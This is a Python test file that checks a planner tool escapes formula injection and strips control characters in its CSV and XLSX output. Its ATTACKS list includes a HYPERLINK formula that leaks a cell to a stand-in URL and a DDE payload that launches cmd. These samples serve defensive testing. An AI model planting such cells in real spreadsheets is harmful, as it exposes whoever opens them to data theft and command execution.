"""No formula reaches a sheet: text cells neutralised in every CSV and XLSX, numbers kept."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hostile_files import rows_of, run, write_rows

from planner.safe_text import printable, sheet_text

ATTACKS = [
    '=HYPERLINK("http://x?c="&I2,"点击领取")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_sheet_text_neutralises_formula_starts(text: str) -> None:
    """OWASP: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    safe = sheet_text(text)
    assert safe.startswith("'") and not any(c in safe for c in "\x00\r\t")


def test_plain_text_is_left_alone() -> None:
    """Ordinary text and Chinese are unchanged; control characters are removed."""
    assert sheet_text("张三 县纺织厂") == "张三 县纺织厂"
    assert printable("a\x0bb\x1b[31mc\u202ed") == "ab[31mcd"
    assert printable("第1站\n第2站", lines=True) == "第1站\n第2站"


def test_household_names_reach_no_sheet_as_formulas(tiny: Path, tmp_path: Path) -> None:
    """Households named like formulas: every CSV and XLSX cell is text starting with `'`,
    and the amounts stay numbers."""
    rows = rows_of(tiny / "households.csv")
    for row, attack in zip(rows[1:], ATTACKS, strict=False):
        row[1] = attack
    write_rows(tiny / "households.csv", rows)
    out = tmp_path / "out"
    result = run("plan", tiny, "--out", out, "--time-limit", "1")
    assert result.exit_code == 0, result.output
    for path in (out / "csv").glob("*.csv"):
        for row in rows_of(path):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")], path
            assert not [cell for cell in row if cell.startswith("-") and not cell[1:].isdigit()]
    for name in ("allocation.xlsx", "notice.xlsx"):
        book = openpyxl.load_workbook(out / name)
        numbers = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f":  # songnuan's own totals, nothing from the input
                        assert not any(word in str(value) for word in ("HYPERLINK", "cmd", "1+1"))
                    elif isinstance(value, str):
                        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
                    numbers += isinstance(value, int)
        assert numbers > 0
    sheet = openpyxl.load_workbook(out / "allocation.xlsx")["发放名单"]
    cells = [value for row in sheet.iter_rows(values_only=True) for value in row]
    assert "'" + ATTACKS[0] in cells


def test_control_characters_in_a_unit_leave_the_workbooks_readable(
    tiny: Path, tmp_path: Path
) -> None:
    """A unit named with a vertical tab and an escape (it names a 签领表 sheet): both
    workbooks open, and no sheet name or cell holds a control character."""
    rows = rows_of(tiny / "households.csv")
    for row in rows[1:4]:
        row[5] = "县\x0b纺织\x1b[31m厂"
    write_rows(tiny / "households.csv", rows)
    out = tmp_path / "out"
    result = run("plan", tiny, "--out", out, "--time-limit", "1")
    assert result.exit_code == 0, result.output
    for name in ("allocation.xlsx", "notice.xlsx"):
        book = openpyxl.load_workbook(out / name)
        texts = [*book.sheetnames]
        texts += [v for s in book.worksheets for r in s.iter_rows(values_only=True) for v in r]
        assert not [t for t in texts if isinstance(t, str) and printable(t, lines=True) != t]
    assert "签领表-县纺织_31m厂" in openpyxl.load_workbook(out / "allocation.xlsx").sheetnames
